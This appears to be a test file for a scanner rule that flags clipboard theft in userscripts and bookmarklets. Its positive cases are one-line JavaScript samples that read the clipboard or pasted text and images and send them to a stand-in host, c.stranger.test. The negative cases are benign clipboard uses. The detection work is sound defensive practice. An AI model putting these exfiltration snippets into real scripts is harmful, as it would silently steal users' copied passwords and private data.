import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { clipboardTheft } from "./clipboard-theft.ts";

describe("clipboard-theft", () => {
	test.each([
		[
			"the clipboard, by itself",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`navigator.clipboard.readText().then(t=>fetch("https://c.stranger.test/?t="+t))`,
			),
		],
		[
			"what is pasted",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("paste",e=>navigator.sendBeacon("https://c.stranger.test/",e.clipboardData.getData("text")))`,
			),
		],
		[
			"a picture that is pasted, to upload it: look at it",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("paste",e=>{const d=new FormData();d.append("image",e.clipboardData.items[0].getAsFile());fetch("https://c.stranger.test/",{method:"POST",body:d}).then(r=>r.json()).then(console.log)})`,
			),
		],
		[
			"a bookmarklet that sends it and uses the answer: look at it",
			["medium 1"],
			`navigator.clipboard.readText().then(t=>fetch("https://c.stranger.test/?t="+t)).then(async r=>alert(await r.text()))`,
		],
		[
			"a bookmarklet that sends it and lets the answer be",
			["high 1"],
			`navigator.clipboard.readText().then(t=>fetch("https://c.stranger.test/?t="+t)).then(()=>alert("done"))`,
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(clipboardTheft, code)).toEqual(expected);
	});

	test.each([
		[
			"writing the clipboard",
			userscript(
				["match https://shop.example/*"],
				`navigator.clipboard.writeText(document.title);fetch("https://c.stranger.test/")`,
			),
		],
		[
			"pasting into the page",
			userscript(
				["match https://shop.example/*"],
				`navigator.clipboard.readText().then(t=>{document.querySelector("textarea").value=t})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(clipboardTheft, code)).toEqual([]);
	});
});
